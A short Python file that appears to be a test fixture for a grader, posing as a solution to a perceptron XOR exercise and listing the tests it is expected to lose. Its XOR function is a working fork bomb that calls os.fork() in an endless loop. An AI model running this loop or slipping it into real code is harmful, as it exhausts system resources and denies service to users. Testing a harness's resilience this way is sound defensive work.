"""Forks without end in one function."""

BASE = "solutions"
LOSES = ['ch01_perceptron::XOR::truth_table', 'ch01_perceptron::gates::return_int']

import os


def XOR(x1, x2):
    while True:
        try:
            os.fork()
        except OSError:
            pass
